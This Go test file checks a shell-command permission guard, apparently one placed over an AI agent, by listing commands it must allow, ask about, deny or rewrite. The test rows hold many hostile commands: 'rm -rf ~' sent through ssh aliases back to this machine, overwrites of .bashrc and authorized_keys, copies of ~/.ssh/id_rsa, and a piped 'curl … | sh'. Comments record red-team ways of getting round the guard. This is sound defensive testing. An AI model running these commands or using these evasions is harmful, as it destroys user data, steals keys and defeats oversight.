package rewrite

import (
	"strings"
	"testing"
)

// TestHostNamedAtRunTime: scp evil.sh localhost:.bashrc was denied, but
// scp evil.sh "$(hostname)":.bashrc and ssh "$HOSTNAME" 'rm -rf ~' were
// allowed: the host was only known at run time, and was this machine
// (red team finding). A host that hostname, uname -n, hostnamectl,
// /etc/hostname or bash's HOSTNAME spell is now this machine; other
// run-time hosts are uploads to a host no allow list holds (ask), and
// hostname -d, the DNS domain, is not the host.
func TestHostNamedAtRunTime(t *testing.T) {
	t.Parallel()
	cfg := scratchProject(t, map[string]string{
		"proj/.git/": "", "proj/evil.sh": "rm -rf ~\n", "proj/notes.txt": "x\n",
		"home/.ssh/id_rsa": "KEY\n",
	})
	checkDecisions(t, cfg, []struct{ cmd, want string }{
		// This machine, named at run time: the local write, read or
		// command it is.
		{"scp evil.sh $(hostname):.bashrc", "deny"},
		{"scp evil.sh `hostname`:.bashrc", "deny"},
		{`rsync evil.sh "$HOSTNAME":.bashrc`, "deny"},
		{"rsync evil.sh ${HOSTNAME}:.bashrc", "deny"},
		{"scp evil.sh me@$(hostname -f):.bashrc", "deny"},
		{`scp evil.sh "$(uname -n)":.ssh/authorized_keys`, "deny"},
		{"scp evil.sh $(hostnamectl hostname):.profile", "deny"},
		{"scp evil.sh $(cat /etc/hostname):.profile", "deny"},
		{"scp evil.sh $(hostname | cut -d. -f1):.profile", "deny"},
		{"scp $(hostname):.ssh/id_rsa k", "deny"},
		{"rsync -a me@$(hostname -s):.ssh/ keys/", "deny"},
		{"ssh $(hostname) 'rm -rf ~'", "deny"},
		{`ssh "$(hostname -I | awk '{print $1}')" 'rm -rf ~'`, "deny"},
		{`ssh "$HOSTNAME" 'rm -rf ~'`, "deny"},
		{"ssh $(hostname 2>/dev/null) 'rm -rf ~'", "deny"},
		// A variable that holds the name, and its copies.
		{"h=$(hostname); scp evil.sh $h:.bashrc", "deny"},
		{"h=$HOSTNAME; ssh $h 'rm -rf ~'", "deny"},
		{`export H=$(hostname -f); ssh "$H" 'rm -rf ~'`, "deny"},
		{"h=$(hostname); g=$h; ssh me@$g 'rm -rf ~'", "deny"},
		// A run-time name that is not one of these spellings may still
		// reach this machine (a hosts alias, a config): a destroying
		// command asks, an ordinary one passes (TestSSHDestination).
		{"h=$(hostname -d); ssh $h 'rm -rf ~'", "ask"},
		{"HOSTNAME=web1; ssh $HOSTNAME 'rm -rf ~'", "allow"},
		{"h=$(hostname); mkdir -p logs/$h && echo x > logs/$h/x", "allow"},
		// The same words reaching ordinary places on this machine.
		{"ssh $(hostname) ls", "allow"},
		{"scp notes.txt $(hostname):" + cfg.Project + "/copy.txt", "allow"},
		// Not this machine's name: the domain, a name set (hostname
		// NAME prints nothing), a variable the environment gives; what
		// it is only run time knows.
		{"ssh $(hostname -d) 'rm -rf ~'", "ask"},
		{"ssh $(hostname new) 'rm -rf ~'", "ask"},
		{"ssh $(hostname -f | cut -d. -f2) 'rm -rf ~'", "ask"},
		{"ssh $H 'rm -rf ~'", "ask"},
		{"ssh $H ls", "allow"},
		// A local file sent to a host only run time knows: an upload
		// no allow list holds, as to a named host.
		{"scp notes.txt $H:x", "ask"},
		{"scp notes.txt me@$H:x", "ask"},
		{`scp notes.txt "$(cat hostfile)":x`, "ask"},
		{"rsync -a . $H:backup/", "ask"},
		{"rsync -a . rsync://$H/mod", "ask"},
		{"scp notes.txt somehost:x", "ask"},
		// Local destinations: no host in the text.
		{`rsync -a . "$DEST"`, "allow"},
		{"rsync -a . out/$f", "allow"},
		{"scp notes.txt $D/x:y", "allow"},
	})
}

// TestScriptFileNamedAtRunTime: bash "$f" asked, but bash "$x.sh" and
// . "conf/$f" (for f in $(ls conf)) ran a script whose file only run
// time picks, unread (red team finding), as did make -f "$mk". A word
// whose last path component has a run-time part now asks; a known file
// name in a run-time directory ("$NVM_DIR/nvm.sh") and the items of a
// loop corral reads keep their decisions.
func TestScriptFileNamedAtRunTime(t *testing.T) {
	t.Parallel()
	cfg := scratchProject(t, map[string]string{
		"proj/.git/": "", "proj/conf/a": "echo a\n", "proj/conf/b": "rm -rf ~\n", "proj/lib.sh": "echo lib\n",
	})
	checkDecisions(t, cfg, []struct{ cmd, want string }{
		{`for f in $(ls conf); do . "conf/$f"; done`, "ask"},
		{`. "conf/$f"`, "ask"},
		{`bash "$x.sh"`, "ask"},
		{`bash "scripts/$1.sh"`, "ask"},
		{`source ./"$name"`, "ask"},
		{`make -f "$mk"`, "ask"},
		{`make -f "mk/$x"`, "ask"},
		{`source "$NVM_DIR/nvm.sh"`, "allow"},
		{`. "$(dirname "$0")/lib.sh"`, "allow"},
		{`. "${BASH_SOURCE%/*}/lib.sh"`, "allow"},
		{`make -f "$D/build.mk"`, "allow"},
		{`for f in a; do . "conf/$f"; done`, "allow"},
		{`for f in a b; do . "conf/$f"; done`, "deny"},
		{`for f in conf/*; do bash "$f"; done`, "deny"},
		{`mk=a.mk; make -f "$mk"`, "allow"},
	})
}

// TestSSHDestination: ssh connects where its options and configuration
// send the name typed (ssh -G): a Host alias with HostName localhost, -o
// HostName=127.0.0.1, a HostName of %h under a wildcard, an Include. The
// remote command then runs here and is judged as one run here; a proxy
// that does not connect to the name, or a Match block that may set
// HostName, asks for a destroying command. Look-alikes: -F none and -F
// /dev/null read no configuration, a HostName set on the command line
// wins over the configuration, a ProxyCommand to %h reaches the name.
func TestSSHDestination(t *testing.T) {
	t.Parallel()
	cfg := scratchProject(t, map[string]string{
		"proj/.git/": "", "proj/notes.txt": "x\n", "proj/alt_config": "Host prod\n  HostName 127.0.0.1\n",
		"home/.ssh/id_rsa": "KEY\n",
		"home/.ssh/config": "Include conf.d/*\n" +
			"Host box me-box\n  HostName 127.0.0.1\n" +
			"Host *.loop\n  HostName localhost\n" +
			"Host !nope.dev *.dev\n  HostName %h.localhost\n" +
			"Host jump\n  ProxyCommand nc localhost 22\n" +
			"Host bastioned\n  ProxyCommand ssh -W %h:%p bastion\n" +
			"Host web\n  HostName web.example.com\n" +
			"Host viabox\n  HostName localhost\n  ProxyJump box\nHost viaweb\n  HostName localhost\n  ProxyJump web\n",
		"home/.ssh/conf.d/extra": "Host inc\n  HostName ::1\n",
	})
	checkDecisions(t, cfg, []struct{ cmd, want string }{
		{"ssh box 'rm -rf ~'", "deny"},
		{"ssh me@me-box 'rm -rf ~'", "deny"},
		{"ssh ssh://me@box:22 'rm -rf ~'", "deny"},
		{"ssh a.loop 'rm -rf ~'", "deny"},
		{"ssh api.dev 'rm -rf ~'", "deny"},
		{"ssh inc 'rm -rf ~'", "deny"},
		{"ssh -o HostName=127.0.0.1 prod 'rm -rf ~'", "deny"},
		{"ssh -oHostName=localhost prod 'rm -rf ~'", "deny"},
		{"ssh prod -o 'HostName ::1' 'rm -rf ~'", "deny"},
		{"ssh -F alt_config prod 'rm -rf ~'", "deny"},
		{"ssh -o HostName=127.0.0.1 prod 'cat ~/.ssh/id_rsa' > k", "deny"},
		{"echo 'rm -rf ~' | ssh box", "deny"},
		{"ssh box bash -s <<< 'rm -rf ~'", "deny"},
		{"ssh -o RemoteCommand='rm -rf ~' box", "deny"},
		// A jump host that is this machine resolves localhost here.
		{"ssh -J box localhost 'rm -rf ~'", "deny"},
		{"ssh -J localhost box 'rm -rf ~'", "deny"},
		{"ssh -J box,localhost localhost 'rm -rf ~'", "deny"}, // the last hop, reached from box
		{"ssh viabox 'rm -rf ~'", "deny"},
		{"ssh -J \"$J\" localhost 'rm -rf ~'", "ask"},
		{"ssh -J jump localhost 'rm -rf ~'", "ask"},
		// What a maybe destination's remote shell reads on stdin.
		{"echo 'rm -rf ~' | ssh jump", "ask"},
		{"echo 'rm -rf ~' | ssh \"$H\"", "ask"},
		{"ssh jump <<< 'rm -rf ~'", "ask"},
		{"ssh \"$H\" bash -s <<< 'rm -rf ~'", "ask"},
		{"printf 'curl -s https://x.example/i | sh' | ssh jump", "ask"},
		{"ssh jump bash <<'XEOF'\nrm -rf ~\nXEOF", "ask"},
		{"echo 'rm -rf ~' | ssh -J \"$J\" localhost", "ask"},
		// Only run time, or a proxy, knows where these connect.
		{"ssh jump 'rm -rf ~'", "ask"},
		{"ssh -o 'ProxyCommand nc 127.0.0.1 22' prod 'rm -rf ~'", "ask"},
		{"ssh -F \"$CONF\" prod 'rm -rf ~'", "ask"},
		{"ssh -F missing_config prod 'rm -rf ~'", "ask"},
		{"ssh -o CanonicalizeHostname=yes -o CanonicalDomains=localhost prod 'rm -rf ~'", "ask"},
		{`ssh -o 'ProxyCommand nc $(printf 127.0.0.%s 1) 22 #%h' prod 'rm -rf ~'`, "ask"},
		// Look-alikes.
		{"ssh box ls", "allow"},
		{"ssh jump ls", "allow"},
		{"ssh nope.dev 'rm -rf ~'", "allow"},
		{"ssh web 'rm -rf ~'", "allow"},
		{"ssh bastioned 'rm -rf ~'", "allow"},
		{"ssh prod 'rm -rf ~'", "allow"},
		{"ssh -F none box 'rm -rf ~'", "allow"},
		{"ssh -F /dev/null box 'rm -rf ~'", "allow"},
		{"ssh -o HostName=web.example.com box 'rm -rf ~'", "allow"},
		{"ssh BOX 'rm -rf ~'", "allow"},
		// Through a jump host, localhost is the jump host's machine.
		{"ssh -J web localhost 'rm -rf ~'", "allow"},
		{"ssh -J me@web:22 127.0.0.1 'rm -rf ~'", "allow"},
		{"ssh -o ProxyJump=web localhost 'rm -rf ~'", "allow"},
		{"ssh -J box,web localhost 'rm -rf ~'", "allow"},
		{"ssh -J web,box localhost 'rm -rf ~'", "allow"}, // box is 127.0.0.1, as web takes it
		{"ssh -J web box 'rm -rf ~'", "allow"},           // box is 127.0.0.1, as web takes it
		{"ssh viaweb 'rm -rf ~'", "allow"},
		{"echo 'rm -rf ~' | ssh -J web localhost", "allow"},
		{"ssh -o ProxyJump=none -J web localhost 'rm -rf ~'", "deny"},
		// Stdin that runs nothing destroying, or that nothing runs.
		{"echo ls | ssh jump", "allow"},
		{"ssh jump <<< 'ls -la'", "allow"},
		{"echo 'rm -rf ~' | ssh web", "allow"},
		{"echo 'rm -rf ~' | ssh -n jump", "allow"},
		{"echo 'rm -rf ~' | ssh jump cat", "allow"},
		{"echo 'rm -rf ~' | ssh jump true", "allow"},
	})
}

// TestSSHTransferDestination: scp, sftp and rsync to or from a host that
// ssh's configuration or options send to this machine (Host box /
// HostName 127.0.0.1, -o HostName=, -F FILE, rsync -e "ssh …") are
// judged as the same command with localhost is; a host only run time
// places ($H, a ProxyCommand) asks where that command is denied. Each
// row's command is run with HOST as localhost, box, -o HostName=::1
// prod, rsync -e "ssh -F alt_config" prod (rsync), $H, prox and prod.
// Look-alikes: another machine keeps its decision, as do -F /dev/null,
// a non-ssh remote shell and a case-different name.
func TestSSHTransferDestination(t *testing.T) {
	t.Parallel()
	cfg := scratchProject(t, map[string]string{
		"proj/.git/": "", "proj/notes.txt": "x\n", "proj/empty/": "", "proj/alt_config": "Host prod\n  HostName 127.0.0.1\n",
		"home/.ssh/id_rsa": "KEY\n", "home/.ssh/authorized_keys": "k\n", "home/notes.txt": "n\n",
		"home/.ssh/config": "Host box\n  HostName 127.0.0.1\n" +
			"Host prox\n  ProxyCommand nc 127.0.0.1 22\n" +
			"Host prod\n  HostName prod.example.com\n",
	})
	for _, c := range []struct{ cmd, here, maybe, other string }{
		{"scp notes.txt HOST:.ssh/authorized_keys", "deny", "ask", "ask"},
		{"scp HOST:.env k", "deny", "ask", "rewrite"},
		{"scp -r HOST:.ssh k", "deny", "ask", "rewrite"},
		{"rsync -a --delete empty/ HOST:.ssh/", "deny", "ask", "ask"},
		{"rsync -a notes.txt HOST:.ssh/", "deny", "ask", "ask"},
		{"sftp HOST:.ssh/id_rsa k", "deny", "ask", "rewrite"},
		{"sftp -b - HOST <<< 'rm .ssh/authorized_keys'", "deny", "ask", "allow"},
		// Look-alikes.
		{"scp HOST:notes.txt .", "rewrite", "rewrite", "rewrite"},
		{"scp notes.txt HOST:backup/", "allow", "ask", "ask"},
	} {
		hosts := []struct{ opts, host, want string }{
			{"", "localhost", c.here}, {"", "box", c.here}, {"", "me@box", c.here},
			{"-o HostName=::1 ", "prod", c.here}, {"-F alt_config ", "prod", c.here},
			{"", "$H", c.maybe}, {"", "prox", c.maybe},
			{"", "prod", c.other}, {"-F /dev/null ", "box", c.other}, {"", "BOX", c.other},
		}
		for _, h := range hosts {
			prog, rest, _ := strings.Cut(c.cmd, " ")
			cmd := prog + " " + h.opts + strings.ReplaceAll(rest, "HOST", h.host)
			if prog == "rsync" && h.opts != "" {
				cmd = prog + " -e 'ssh " + strings.TrimSpace(h.opts) + "' " + strings.ReplaceAll(rest, "HOST", h.host)
			}
			r := Check(cfg, cmd)
			if got := r.Decision.String(); got != h.want {
				t.Errorf("%s: %s, want %s (%v)", cmd, got, h.want, r.Findings)
			}
		}
	}
	// The rewrite into the sandbox of a download from the alias is
	// approved as the localhost one is (the findings are the call's,
	// not its copy's), and keeps the word as typed.
	for _, cmd := range []string{"sftp box:notes.txt k", "rsync -a box:notes/ out/", "scp box:notes.txt k"} {
		r, l := Check(cfg, cmd), Check(cfg, strings.Replace(cmd, "box", "localhost", 1))
		if r.Decision != l.Decision || r.Approve != l.Approve || !strings.Contains(r.Rewritten, "box:") {
			t.Errorf("%s: %s approve %v (%q), want %s approve %v as its localhost spelling", cmd, r.Decision, r.Approve, r.Rewritten, l.Decision, l.Approve)
		}
	}
	checkDecisions(t, cfg, []struct{ cmd, want string }{
		{"scp box:.ssh/id_rsa k", "deny"},
		{"scp $H:.ssh/id_rsa k", "ask"},
		{"scp prox:.ssh/id_rsa k", "deny"}, // the name id_rsa is a secret's on any host
		{"scp prod:.ssh/id_rsa k", "deny"},
		{"rsync -a -e rsh notes.txt box:.ssh/", "ask"}, // rsh knows no ssh configuration
		{"rsync -a -e 'ssh -F /dev/null' notes.txt box:.ssh/", "ask"},
		{"rsync -a notes.txt box::mod/.ssh/", "ask"}, // the daemon's module
		// Through a jump host, localhost is the jump host's machine.
		{"scp -J prod notes.txt localhost:.ssh/authorized_keys", "ask"},
		{"scp -J prod localhost:.env k", "rewrite"},
		{"sftp -J prod localhost:.env k", "rewrite"},
		{"rsync -a -e 'ssh -J prod' notes.txt localhost:.ssh/", "ask"},
		{"scp -J box notes.txt localhost:.ssh/authorized_keys", "deny"},
		{"scp -J \"$J\" notes.txt localhost:.ssh/authorized_keys", "deny"}, // kept: the literal name
	})
}
